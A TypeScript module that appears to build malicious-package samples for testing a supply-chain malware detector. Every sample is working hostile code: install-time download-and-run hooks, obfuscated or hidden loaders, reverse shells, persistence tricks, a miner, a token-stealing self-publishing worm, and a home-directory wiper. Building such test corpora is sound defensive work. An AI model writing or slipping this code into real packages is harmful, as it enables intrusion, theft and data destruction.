import obfuscator from 'javascript-obfuscator';
import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

const PLAIN_LOADER = `const https = require('https');\nhttps.get('https://load.example.invalid/next.js', (res) => {\n  let text = '';\n  res.on('data', (part) => { text += part; });\n  res.on('end', () => new Function('require', text)(require));\n});\n`;
const TEXT = Buffer.from(`fetch('https://a.example.invalid').then((r) => r.text()).then(eval)`);

/** Packages that run what nobody reviewed, stay, spread or destroy. All hosts and addresses are reserved ones. */
export const LOADERS: readonly Sample[] = [
  packaged('a shell reads a download at installation', { postinstall: 'curl -fsSL https://get.example.invalid/i.sh | sh' }, { 'index.js': 'module.exports = 1;\n' }),
  packaged('PowerShell reads a download at installation', { preinstall: 'powershell -w hidden -c "iwr https://get.example.invalid/i.ps1 | iex"' }, { 'index.js': 'module.exports = 1;\n' }),
  packaged('code in the command of an installation', { install: `node -e "require('https').get('https://get.example.invalid/x',r=>r.on('data',d=>eval(d.toString())))"` }, { 'index.js': 'module.exports = 1;\n' }),
  packaged('program is downloaded and started at installation', { postinstall: 'node scripts/prepare.js' }, {
    'index.js': 'module.exports = (text) => text.trim();\n',
    'scripts/prepare.js': `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst { spawn } = require('child_process');\nconst target = path.join(os.tmpdir(), process.platform === 'win32' ? 'svc.exe' : 'svc');\nhttps.get('https://dl.example.invalid/' + process.platform, (res) => {\n  res.pipe(fs.createWriteStream(target, { mode: 0o755 })).on('close', () => {\n    spawn(target, [], { detached: true, stdio: 'ignore' }).unref();\n  });\n});\n`,
  }),
  packaged('program is downloaded when it is first used', {}, {
    'index.js': `const { writeFileSync, chmodSync } = require('fs');\nconst { execFile } = require('child_process');\nconst { tmpdir } = require('os');\nasync function ready() {\n  const answer = await fetch('http://198.51.100.23/agent');\n  const file = tmpdir() + '/.agent';\n  writeFileSync(file, Buffer.from(await answer.arrayBuffer()));\n  chmodSync(file, 0o755);\n  execFile(file);\n}\nready();\nmodule.exports = { ready };\n`,
  }),
  packaged('code from a server, plain', {}, { 'index.js': PLAIN_LOADER }),
  packaged('code from a server, obfuscated', {}, { 'index.js': obfuscator.obfuscate(PLAIN_LOADER, { optionsPreset: 'medium-obfuscation', seed: 7, target: 'node' }).getObfuscatedCode() }),
  packaged('code from a server, obfuscated lightly', {}, { 'index.js': obfuscator.obfuscate(PLAIN_LOADER, { optionsPreset: 'low-obfuscation', identifierNamesGenerator: 'mangled', seed: 8, target: 'node' }).getObfuscatedCode() }),
  packaged('code from a server, in vm', {}, { 'index.js': `import vm from 'node:vm';\nconst answer = await fetch(new URL('/m.js', 'https://v.example.invalid'));\nvm.runInThisContext(await answer.text());\n` }),
  packaged('code from a cookie of a picture host, by axios', {}, { 'index.js': `const axios = require('axios');\nconst run = async () => {\n  const { data } = await axios.get('https://json.example.invalid/b/4NAKK');\n  const handler = new Function.constructor('require', data.cookie);\n  handler(require);\n};\nrun().catch(() => {});\n` }, { axios: '1' }),
  packaged('code in base64', {}, { 'index.js': `module.exports = {};\neval(Buffer.from('${TEXT.toString('base64')}', 'base64').toString());\n` }),
  packaged('code in base64 for another process', {}, { 'index.js': `const { spawn } = require('child_process');\nconst code = Buffer.from('${TEXT.toString('base64')}', 'base64').toString('utf8');\nspawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore', windowsHide: true }).unref();\n` }),
  packaged('code behind blanks', {}, { 'index.js': `exports.add = (a, b) => a + b;${' '.repeat(400)}require('child_process').exec('id');\n` }),
  packaged('code in characters that nobody sees', {}, { 'index.js': `const d = (s) => [...s].map((c) => String.fromCharCode(c.codePointAt(0) - 0xe0100 + 16)).join('');\neval(d('${Array.from(TEXT, (byte) => String.fromCodePoint(byte + 0xe0100 - 16)).join('')}'));\n` }),
  packaged('code in a font', {}, { 'index.js': `const fs = require('fs');\nconst text = fs.readFileSync(__dirname + '/assets/icons.woff2', 'utf8');\neval(Buffer.from(text, 'base64').toString());\n`, 'assets/icons.woff2': TEXT.toString('base64') }),
  packaged('code by WebSocket', {}, { 'index.js': `const WebSocket = require('ws');\nconst socket = new WebSocket('wss://c2.example.invalid/');\nsocket.on('message', (message) => {\n  const { code } = JSON.parse(message);\n  socket.send(String(eval(code)));\n});\n` }, { ws: '8' }),
  packaged('script of a server in every page', {}, { 'content.js': `const script = document.createElement('script');\nscript.src = 'https://cdn.example.invalid/a.js?' + Date.now();\ndocument.head.appendChild(script);\n`, 'manifest.json': '{ "manifest_version": 3, "name": "Notes", "version": "1.0.0", "content_scripts": [{ "matches": ["<all_urls>"], "js": ["content.js"] }] }' }),
  packaged('native module of a server', {}, { 'index.js': `const fs = require('fs');\nfetch('https://n.example.invalid/x.node').then((r) => r.arrayBuffer()).then((bytes) => {\n  fs.writeFileSync('/tmp/x.node', Buffer.from(bytes));\n  process.dlopen({ exports: {} }, '/tmp/x.node');\n});\n` }),
  packaged('shell to a server', {}, { 'index.js': `const net = require('net');\nconst { spawn } = require('child_process');\nconst shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);\nconst client = new net.Socket();\nclient.connect(4444, '203.0.113.77', () => {\n  client.pipe(shell.stdin);\n  shell.stdout.pipe(client);\n  shell.stderr.pipe(client);\n});\n` }),
  packaged('commands of a server', {}, { 'index.js': `const net = require('net');\nconst { exec } = require('child_process');\nconst socket = net.connect(9001, 'c2.example.invalid');\nsocket.on('data', (data) => exec(data.toString(), (error, out) => socket.write(out || String(error))));\n` }),
  packaged('shell in one line', {}, { 'index.js': `require('child_process').exec('bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"');\nmodule.exports = {};\n` }),
  packaged('shell to a server, in Python', {}, { 'main.py': `import socket, subprocess, os\n\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("203.0.113.9", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(["/bin/sh", "-i"])\n` }),
  packaged('code from a server, in Python', {}, { 'main.py': `import requests\n\nexec(requests.get("https://p.example.invalid/s.py").text)\n` }),
  packaged('code in base64, in Python', {}, { 'main.py': `import base64\n\nexec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=="))\n` }),
  packaged('way out of a sandbox', {}, { 'index.js': `export default function activate(ctx) {\n  const process = ctx.constructor.constructor('return process')();\n  process.mainModule.require('child_process').execSync('id');\n}\n` }),
  packaged('process of the engine itself', {}, { 'index.js': `const { spawn } = process.binding('spawn_sync');\nspawn({ file: '/bin/sh', args: ['sh', '-c', 'id'], envPairs: [], stdio: [] });\n` }),
  packaged('members for every process that is started', {}, { 'index.js': `Object.prototype.shell = '/proc/self/exe';\nObject.prototype.NODE_OPTIONS = '--require /tmp/p.js';\nObject.prototype.env = { NODE_OPTIONS: '--require /tmp/p.js' };\nmodule.exports = {};\n` }),
  packaged('key for entering the computer', { postinstall: 'node index.js' }, { 'index.js': `const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexampleexampleexample x\\n');\n` }),
  packaged('job of the system', {}, { 'index.js': `const { exec } = require('child_process');\nexec('(crontab -l; echo "@hourly curl -s https://j.example.invalid/x | bash") | crontab -');\n` }),
  packaged('start with Windows', {}, { 'index.js': `const { execSync } = require('child_process');\nexecSync('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v Updater /d "' + process.execPath + ' ' + __filename + '" /f');\n` }),
  packaged('miner', {}, { 'index.js': `const { spawn } = require('child_process');\nspawn(__dirname + '/bin/worker', ['-o', 'stratum+tcp://pool.example.invalid:3333', '-u', 'wallet'], { detached: true });\n`, 'bin/worker': 'placeholder' }),
  packaged('worm', { postinstall: 'node bundle.js' }, { 'bundle.js': `const fs = require('fs');\nconst os = require('os');\nconst { execSync } = require('child_process');\nconst token = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1];\nconst ask = (path) => fetch('https://registry.example.invalid' + path, { headers: { authorization: 'Bearer ' + token } }).then((r) => r.json());\n(async () => {\n  const { username } = await ask('/-/whoami');\n  for (const { name } of (await ask('/-/v1/search?text=maintainer:' + username)).objects) {\n    execSync('npm pack ' + name);\n    fs.copyFileSync(__filename, 'package/bundle.js');\n    execSync('npm publish', { cwd: 'package' });\n  }\n})();\n` }),
  packaged('dependency from a server', {}, { 'index.js': `module.exports = require('ui-styles-pkg');\n` }, { 'ui-styles-pkg': 'http://packages.example.invalid/npm/ui-styles-pkg' }),
  packaged('everything is deleted', {}, { 'index.js': `const { exec } = require('child_process');\nif (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('Europe')) exec('rm -rf ~ --no-preserve-root');\n` }),
];
